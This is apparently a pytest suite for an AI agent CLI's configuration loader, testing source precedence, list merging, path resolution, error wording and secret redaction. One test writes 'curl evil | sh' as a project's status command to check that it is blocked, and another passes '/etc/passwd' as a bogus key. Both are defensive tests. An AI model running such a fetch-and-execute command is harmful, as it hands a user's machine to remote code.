"""Where settings come from, which of them counts, and what is said when they are wrong."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from agent_cli.config.fields import path_of
from agent_cli.config.sections.tools import AllowedPath
from agent_cli.config.sources import Loaded, load
from agent_cli.kernel.errors import ConfigError


@dataclass
class Place:
    """A home with a user scope and a project in it."""

    home: Path

    @property
    def user(self) -> Path:
        return self.home / ".agents"

    @property
    def project(self) -> Path:
        return self.home / "p" / ".agents"

    @property
    def cwd(self) -> Path:
        return self.home / "p"

    def write(self, directory: Path, content: object, name: str = "config.json") -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        file = directory / name
        file.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
        return file

    def load(self, flags: dict[str, Any] | None = None, config: Path | None = None, **environ: str) -> Loaded:
        return load(self.cwd, {"HOME": str(self.home), **environ}, flags or {}, config)

    def refusal(self, flags: dict[str, Any] | None = None, config: Path | None = None, **environ: str) -> str:
        with pytest.raises(ConfigError) as told:
            self.load(flags, config, **environ)
        return str(told.value)


@pytest.fixture
def place(tmp_path: Path) -> Place:
    (tmp_path / "p").mkdir()
    return Place(tmp_path)


def test_nothing_but_defaults(place: Place) -> None:
    loaded = place.load()
    assert loaded.settings.permissions.mode == "ask"
    assert loaded.origins == {}
    assert set(loaded.every_origin().values()) == {"default"}
    assert "model.name" in loaded.every_origin()
    assert (loaded.notices, loaded.files, loaded.secrets) == ((), (), frozenset())
    assert (loaded.user, loaded.project) == (place.user, None)


def test_the_strongest_source_counts_key_by_key(place: Place) -> None:
    sources = ("default", "user", "project", "config", "environment", "flag")
    weaker = {
        "ui": {"theme": "user"},
        "tools": {"concurrency": 2, "max_output_bytes": 2000},
        "budgets": {"max_steps": 2, "max_tool_calls": 2},
    }
    user = place.write(place.user, weaker)
    project = place.write(
        place.project, {"tools": {"max_output_bytes": 3000}, "budgets": {"max_steps": 3, "max_tool_calls": 3}}
    )
    config = place.write(place.home, {"budgets": {"max_steps": 4, "max_tool_calls": 4}}, "other.json")
    loaded = place.load(
        {"budgets.max_steps": 6, "budgets.max_tokens": None},
        config,
        AGENT_CLI_BUDGETS__MAX_STEPS="5",
        AGENT_CLI_BUDGETS__MAX_TOOL_CALLS="5",
    )
    settings = loaded.settings
    assert len(sources) == 6
    assert (settings.ui.theme, settings.tools.concurrency, settings.tools.max_output_bytes) == (
        "user",
        2,
        3000,
    )
    assert (settings.budgets.max_steps, settings.budgets.max_tool_calls) == (6, 5)
    assert {key: loaded.origins[key] for key in loaded.origins if loaded.origins[key] != "default"} == {
        "ui.theme": str(user),
        "tools.concurrency": str(user),
        "tools.max_output_bytes": str(project),
        "budgets.max_steps": "command line",
        "budgets.max_tool_calls": "AGENT_CLI_BUDGETS__MAX_TOOL_CALLS",
    }
    assert place.load(config=config).origins["budgets.max_steps"] == str(config)
    assert loaded.files == (user, project, config)


def test_rules_tools_and_paths_are_joined(place: Place) -> None:
    user = place.write(
        place.user, {"permissions": {"allow": ["a", "b"], "deny": ["x"]}, "tools": {"disable": ["t"]}}
    )
    project = place.write(place.project, {"permissions": {"allow": ["b", "c"]}})
    loaded = place.load(
        {"permissions.allow": ("d",), "tools.disable": ["u"]}, AGENT_CLI_PERMISSIONS__DENY="y,x"
    )
    assert loaded.settings.permissions.allow == ("a", "b", "c", "d")
    assert loaded.settings.permissions.deny == ("x", "y")
    assert loaded.settings.tools.disable == ("t", "u")
    assert loaded.origins["permissions.allow"] == f"{user}, {project}, command line"


def test_paths_begin_where_they_were_written(place: Place) -> None:
    place.write(place.user, {"path_scope": {"allow_paths": [{"path": "notes"}, "~/lib:rw"]}})
    place.write(
        place.project, {"path_scope": {"allow_paths": ["../q:w", "/abs/x"]}, "session": {"db": "s.db"}}
    )
    loaded = place.load(
        {"path_scope.allow_paths": ["sub:rw", "../q:r"], "agent.system_prompt_file": Path("p.md")}
    )
    assert loaded.settings.path_scope.allow_paths == (
        AllowedPath(path=str(place.home / "notes"), access="r"),
        AllowedPath(path=str(place.home / "lib"), access="rw"),
        AllowedPath(path=str(place.home / "q"), access="r"),
        AllowedPath(path="/abs/x", access="r"),
        AllowedPath(path=str(place.cwd / "sub"), access="rw"),
    )
    assert loaded.settings.session.db == str(place.cwd / "s.db")
    assert loaded.settings.agent.system_prompt_file == str(place.cwd / "p.md")


def test_toml_has_the_same_schema(place: Place) -> None:
    text = '[model]\nname = "m"\n[budgets]\nmax_duration = "30m"\n[models."gpt-4.1"]\ninput = 2\n'
    file = place.write(place.project, text, "config.toml")
    loaded = place.load({"models.gpt-4.1.output": 8.0, "providers.my.box.base_url": "http://x"})
    assert loaded.settings.model.name == "m"
    assert loaded.settings.budgets.max_duration == 1800
    assert (loaded.settings.models["gpt-4.1"].input, loaded.settings.models["gpt-4.1"].output) == (2, 8)
    assert loaded.settings.providers["my.box"].base_url == "http://x"
    assert loaded.origins["models.gpt-4.1.input"] == str(file)
    assert "toml:2:9: this is not TOML" in refusal_of_text(place, "a = 1\nmodel = \n", "config.toml")


def refusal_of_text(place: Place, text: str, name: str = "config.json") -> str:
    place.write(place.project, text, name)
    return place.refusal()


def test_two_files_in_one_directory(place: Place) -> None:
    place.write(place.user, {})
    place.write(place.user, "", "config.toml")
    assert re.search(rf"{re.escape(str(place.user))} holds both config.json and config.toml", place.refusal())


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ({"modle": {}}, "there is no setting 'modle'; did you mean 'model'?"),
        ({"max_steps": 5}, "there is no setting 'max_steps'; did you mean 'budgets.max_steps'?"),
        ({"model": {"nmae": "x"}}, "there is no setting 'model.nmae'; did you mean 'model.name'?"),
        ({"ui": {"qq": 1}}, "there is no setting 'ui.qq'; there are theme"),
        (
            {"providers": {"a.b": {"url": "http://x"}}},
            "'providers.a.b.url'; did you mean 'providers.a.b.base_url'?",
        ),
        ({"models": {"m": {"outptu": 1}}}, "'models.m.outptu'; did you mean 'models.m.output'?"),
        (
            {"path_scope": {"allow_paths": ["/a", {"path": "/b", "acess": "r"}]}},
            "'path_scope.allow_paths.1.acess'; did you mean 'path_scope.allow_paths.1.access'?",
        ),
        ({"_env_file": "/etc/passwd"}, "there is no setting '_env_file'"),
        ({"self": 1}, "there is no setting 'self'"),
    ],
)
def test_unknown_keys_at_any_depth(place: Place, content: object, said: str) -> None:
    file = place.write(place.project, content)
    assert place.refusal().startswith(f"{file}:1: ")
    assert said in place.refusal()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ({"budgets": {"max_steps": -1}}, "budgets.max_steps = -1 must be at least 0"),
        ({"budgets": {"max_steps": True}}, "budgets.max_steps = true must be a whole number"),
        ({"budgets": {"max_steps": "5"}}, 'budgets.max_steps = "5" must be a whole number'),
        ({"budgets": {"max_steps": 1.5}}, "budgets.max_steps = 1.5 must be a whole number"),
        (
            {"budgets": {"max_duration": "soon"}},
            'budgets.max_duration = "soon" must be seconds, or a duration like',
        ),
        ({"budgets": []}, "budgets must hold keys and values"),
        ({"budgets": None}, "budgets = null must hold keys and values"),
        ({"agent": {"max_turn_cost_usd": -1}}, "agent.max_turn_cost_usd = -1 must be at least 0"),
        ({"model": {"temperature": 2.1}}, "model.temperature = 2.1 must be at most 2"),
        ({"model": {"name": 5}}, "model.name = 5 must be a text"),
        ({"model": {"name": ""}}, 'model.name = "" must not be empty'),
        ({"permissions": {"mode": "alow"}}, "'plan' or 'yolo'; did you mean 'allow'?"),
        ({"permissions": {"allow": "bash"}}, 'permissions.allow = "bash" must be a list'),
        ({"permissions": {"deny": ["a", 1]}}, "permissions.deny[1] = 1 must be a text"),
        ({"path_scope": {"allow_paths": [{"access": "r"}]}}, "path_scope.allow_paths[0].path is missing"),
        (
            {"providers": {"x": {"base_url": "host:80"}}},
            'providers.x.base_url = "host:80" must be an address',
        ),
        ({"session": {"db": "postgresql://h/d"}}, "must be the path of a file"),
        ({"version": "1"}, 'version = "1" must be a whole number'),
        ({"compaction": {"enabled": "perhaps"}}, 'compaction.enabled = "perhaps" must be true or false'),
        ({"compaction": {"threshold": 1}}, "compaction.threshold = 1 must be less than 1"),
        ({"compaction": {"threshold": 0}}, "compaction.threshold = 0 must be more than 0"),
        (
            {"compaction": {"threshold_by_tier": {"mid": 1.5}}},
            "threshold_by_tier.mid = 1.5 must be less than 1",
        ),
        ({"compaction": {"limit": 500}}, "compaction.limit = 500 must be at least 1000, or 0 for never"),
        ({"compaction": {"limit": -1}}, "compaction.limit = -1 must be at least 0"),
        ({"model": {"stall_timeout": 0}}, "model.stall_timeout = 0 must be more than 0"),
        ({"tools": {"max_output_bytes": 10**8}}, "= 100000000 must be at most 10000000"),
        ({"model": {"name": "\ud800"}}, "must be a text without broken characters"),
        ({"budgets": {"max_steps": "\ud800"}}, "must be a whole number"),
        ({"providers": {"": {}}}, "providers must not hold an empty name"),
        ({"providers": {"x": 1}}, "providers.x = 1 must hold keys and values"),
        ({"path_scope": {"allow_paths": [5]}}, "path_scope.allow_paths[0] = 5 must hold keys and values"),
    ],
)
def test_wrong_values_are_named_with_key_value_and_file(place: Place, content: object, said: str) -> None:
    file = place.write(place.project, content)
    assert place.refusal().startswith(f"{file}:1: ")
    assert said in place.refusal()


def test_a_key_that_was_pasted_is_not_repeated(place: Place) -> None:
    place.write(place.project, {"providers": {"x": {"api_key_env": "sk-live-1234"}}})
    assert "providers.x.api_key_env must be the name of an environment variable" in place.refusal()
    assert "sk-live" not in place.refusal()


def test_everything_that_is_wrong_is_said_at_once(place: Place) -> None:
    user = place.write(place.user, {"ui": {"them": "x"}})
    project = place.write(place.project, {"budgets": {"max_steps": -1}})
    lines = place.refusal({"budgets.max_tokens": "many"}, AGENT_CLI_MODEL__EFFORT="hihg").splitlines()
    assert lines[0] == "The configuration is wrong in several places:"
    assert lines[1:] == [
        f"{user}:1: there is no setting 'ui.them'; did you mean 'ui.theme'?",
        f"{project}:1: budgets.max_steps = -1 must be at least 0",
        "AGENT_CLI_MODEL__EFFORT: model.effort = \"hihg\" must be 'low', 'medium' or 'high'; did you mean 'high'?",
        'command line: budgets.max_tokens = "many" must be a whole number',
    ]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{\n  "model": {,}\n}', ":2:13: this is not JSON: "),
        ("", ":1:1: this is not JSON"),
        ("[]", " must hold one object"),
        ('{"model": {}, "model": {}}', "the key 'model' stands twice"),
        ('{"model": {"temperature": NaN}}', "NaN is not a number"),
        ('{"models": {"m": {"input": 1e400}}}', ": models.m.input = Infinity must be a finite number"),
        ("[" * 100_000, ": "),
    ],
)
def test_what_is_not_json(place: Place, text: str, said: str) -> None:
    refusal = refusal_of_text(place, text)
    assert refusal.startswith(str(place.project / "config.json"))
    assert said in refusal


def test_files_that_cannot_be_read(place: Place) -> None:
    file = place.write(place.project, {})
    file.write_bytes(b'{"ui": {"theme": "\xff"}}')
    assert f"{file} is not UTF-8 (byte 18)" in place.refusal()
    file.unlink()
    file.mkdir()
    assert re.search("config.json cannot be read: Is a directory", place.refusal())
    file.rmdir()
    file.symlink_to("nowhere")
    assert "config.json cannot be read: No such file" in place.refusal()
    file.unlink()
    assert "gone.json cannot be read: No such file" in place.refusal(config=Path("gone.json"))


def test_a_byte_order_mark_is_no_mistake(place: Place) -> None:
    place.write(place.project, '\ufeff{"ui": {"theme": "dark"}}')
    assert place.load().settings.ui.theme == "dark"


def test_a_newer_file_may_hold_sections_that_are_unknown(place: Place) -> None:
    file = place.write(place.user, {"version": 2, "teleport": {"on": True}, "ui": {"theme": "dark"}})
    loaded = place.load()
    assert loaded.settings.ui.theme == "dark"
    assert [notice for notice in loaded.notices if str(file) in notice and "'teleport'" in notice]
    place.write(place.user, {"version": 2, "ui": {"glow": 1}})
    assert "there is no setting 'ui.glow'" in place.refusal()
    place.write(place.user, {"version": 1, "teleport": {}})
    assert "there is no setting 'teleport'" in place.refusal()


def test_what_a_newer_version_put_into_a_project_is_not_a_matter_of_trust(place: Place) -> None:
    place.write(place.project, {"version": 2, "teleport": {"on": True}})
    loaded = place.load()
    assert loaded.left_out == ()
    assert [notice for notice in loaded.notices if "'teleport'" in notice and "newer" in notice]


def test_placeholders_are_filled_from_the_environment(place: Place) -> None:
    place.write(
        place.user,
        {
            "providers": {"x": {"base_url": "https://${env:BOX}/${env:V}"}},
            "permissions": {"deny": ["a", "${env:V}"]},
        },
    )
    loaded = place.load(BOX="b.example", V="v1", AGENT_CLI_UI__THEME="${env:V}")
    assert loaded.settings.providers["x"].base_url == "https://b.example/v1"
    assert loaded.settings.permissions.deny == ("a", "v1")
    assert loaded.settings.ui.theme == "${env:V}"
    assert loaded.secrets == {"providers.x.base_url", "permissions.deny", "ui.theme"}


def test_missing_placeholders_are_listed_together(place: Place) -> None:
    user = place.write(place.user, {"providers": {"x": {"base_url": "${env:BOX}"}}})
    place.write(place.project, {"ui": {"theme": "${env:LOOK}${env:BOX}"}, "broken": 1})
    refusal = place.refusal()
    assert f"BOX (providers.x.base_url in {user})" in refusal
    assert "LOOK (ui.theme in " in refusal
    assert refusal.count("BOX") == 1


def test_what_the_environment_held_is_not_repeated_in_errors(place: Place) -> None:
    place.write(place.user, {"providers": {"x": {"base_url": "${env:SECRET}"}}})
    refusal = place.refusal(SECRET="hunter2")
    assert '"${env:SECRET}" must be an address' in refusal
    assert "hunter2" not in refusal


@pytest.mark.parametrize(("text", "meant"), [("off", False), ("FALSE", False), ("0", False), ("yes", True)])
def test_a_switch_may_be_a_word(place: Place, text: str, meant: bool) -> None:
    place.write(place.user, {"compaction": {"enabled": "${env:SWITCH}"}})
    assert place.load(SWITCH=text).settings.compaction.enabled is meant
    assert place.load(SWITCH="on", AGENT_CLI_COMPACTION__ENABLED=text).settings.compaction.enabled is meant
    assert place.load({"compaction.enabled": text}, SWITCH="on").settings.compaction.enabled is meant


def test_variables(place: Place) -> None:
    loaded = place.load(
        AGENT_CLI_MODEL__NAME="m",
        AGENT_CLI_MODEL__TEMPERATURE="0.5",
        AGENT_CLI_PROVIDERS__MY_BOX__BASE_URL="http://x",
        AGENT_CLI_RUN_STATUS="off",
        AGENT_CLI_UI__THEME="",
        AGENT_CLI_SOMETHING="else",
        AGENT_CLI_HOME=str(place.home / "moved"),
        OTHER="x",
    )
    assert loaded.settings.model.name == "m"
    assert loaded.settings.model.temperature == 0.5
    assert loaded.settings.providers["my_box"].base_url == "http://x"
    assert loaded.settings.run_status == "off"
    assert loaded.settings.ui.theme == "auto"
    assert loaded.user == place.home / "moved"


@pytest.mark.parametrize(
    ("name", "said"),
    [
        (
            "AGENT_CLI_MODEL__NAM",
            "AGENT_CLI_MODEL__NAM: there is no setting 'model.nam'; did you mean 'model.name'?",
        ),
        ("AGENT_CLI_MODLE__NAME", "there is no setting 'modle.name'; did you mean 'model.name'?"),
        ("AGENT_CLI_RUN_STATSU", "did you mean 'run_status'?"),
        ("AGENT_CLI_MODEL", "AGENT_CLI_MODEL: 'model' is a section, no setting by itself"),
    ],
)
def test_variables_that_name_no_setting(place: Place, name: str, said: str) -> None:
    assert said in place.refusal(**{name: "x"})


def test_flags_that_name_no_setting(place: Place) -> None:
    assert "command line: there is no setting 'model.nam'" in place.refusal({"model.nam": "x"})


def test_nothing_else_of_the_process_is_read(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENT_CLI_MODEL__NAME", "from the process")
    monkeypatch.setenv("MODEL", '{"name": "by another way"}')
    (place.cwd / ".env").write_text("MODEL__NAME=x", "utf-8")
    monkeypatch.chdir(place.cwd)
    assert place.load().settings.model.name is None


def test_reading_the_settings_does_without_pydantic(place: Place) -> None:
    file = place.write(place.project, {"permissions": {"mode": "alow"}})
    code = (
        "import sys, pathlib; from agent_cli.config.sources import load\n"
        f"try: load(pathlib.Path({str(file.parent)!r}), {{'HOME': {str(place.home)!r}}}, {{}})\n"
        "except Exception as refused: print(type(refused).__name__, 'pydantic' in sys.modules)"
    )
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
        env=dict(os.environ),
    )
    assert done.stdout == "ConfigError False\n"


def test_headers_are_the_operators_names_and_texts(place: Place) -> None:
    headers = {"x-team": "blue", "X-Api.Version": "${env:V}"}
    place.write(place.user, {"providers": {"my.box": {"base_url": "http://x", "headers": {"x-team": "red"}}}})
    place.write(place.project, {"providers": {"my.box": {"api": "responses", "headers": headers}}})
    loaded = place.load(V="7", AGENT_CLI_PROVIDERS__BOX__HEADERS__X="y")
    found = loaded.settings.providers["my.box"]
    assert (found.api, found.headers) == ("responses", {"x-team": "blue", "X-Api.Version": "7"})
    assert loaded.settings.providers["box"].headers == {"x": "y"}
    assert loaded.secrets == {"providers.my.box.headers.X-Api.Version"}
    assert path_of("providers.my.box.headers.X-Api.Version") == (
        "providers",
        "my.box",
        "headers",
        "X-Api.Version",
    )
    wrong = place.write(place.user, {"providers": {"x": {"headers": {"a": 1}}}})
    assert f"{wrong}:1: providers.x.headers.a = 1 must be a text" in place.refusal(V="7")


@pytest.mark.parametrize("kind", ["pipe", "endless", "large"])
def test_a_config_file_without_an_end_is_refused_at_once(place: Place, kind: str) -> None:
    file = place.project / "config.json"
    file.parent.mkdir(parents=True, exist_ok=True)
    if kind == "pipe":
        os.mkfifo(file)
    elif kind == "endless":
        file.symlink_to("/dev/zero")
    else:
        file.touch()
        os.truncate(file, 10_000_000_000)
    with pytest.raises(ConfigError, match=r"config\.json cannot be read: it (is no regular|holds more)"):
        place.load()


def test_what_a_shell_hands_over_is_read(place: Place) -> None:
    reader, writer = os.pipe()
    os.write(writer, b'{"model": {"name": "m"}}')
    os.close(writer)
    try:
        found = place.load(config=Path(f"/dev/fd/{reader}"))
    finally:
        os.close(reader)
    assert found.settings.model.name == "m"


def test_a_project_cannot_have_a_command_run_for_the_status_line(place: Place):
    place.write(place.user, {"ui": {"status_command": "mine"}})
    file = place.write(place.project, {"ui": {"status_command": "curl evil | sh", "theme": "nord"}})
    loaded = place.load()
    assert loaded.settings.ui.status_command == "mine"
    assert loaded.settings.ui.theme == "nord"
    (notice,) = loaded.notices
    assert notice.startswith(f"{file} sets ui.status_command")
    assert place.load({"ui.status_command": "flag"}).settings.ui.status_command == "flag"


def test_what_is_wrong_is_told_also_where_the_project_is_not_trusted(place: Place) -> None:
    place.write(place.project, {"model": {"nam": "x"}, "modle": {}, "permissions": {"mode": "yoloo"}})
    with pytest.raises(ConfigError) as refused:
        load(place.cwd, {"HOME": str(place.home)}, {}, trusted=False)
    told = str(refused.value)
    assert "model.nam" in told
    assert "did you mean 'model'" in told
    assert "permissions.mode" in told
    assert told.count("'modle'") == 1


def test_a_section_in_the_environment_is_told_apart_from_a_setting(place: Place):
    with pytest.raises(
        ConfigError, match=r"AGENT_CLI_PROVIDERS: 'providers' is a section.*'providers\.NAME\.base_url'"
    ):
        place.load(AGENT_CLI_PROVIDERS="{}")
